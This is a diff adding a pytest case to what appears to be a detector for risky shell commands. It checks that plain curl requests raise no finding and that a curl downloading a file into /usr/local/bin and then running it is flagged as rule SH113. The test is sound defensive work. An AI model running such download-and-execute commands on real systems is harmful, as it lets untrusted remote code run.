@@ -83,6 +83,12 @@ def test_harmless_downloads_are_accepted(commands):
     assert seen(commands) == set()
 
 
+def test_an_answer_of_a_service_is_no_started_file():
+    asked = f"curl -s {UNKNOWN_SITE}/items/children\ncurl -s {UNKNOWN_SITE}/ >/dev/null\n"
+    assert seen(f"{asked}children: [\n]\n'' b\nsource /dev/null\n") == set()
+    assert seen(f"curl -so /usr/local/bin/children {UNKNOWN_SITE}/a\nchildren -a\n") == {"SH113"}
+
+
 @pytest.mark.parametrize(
     "commands",
     [
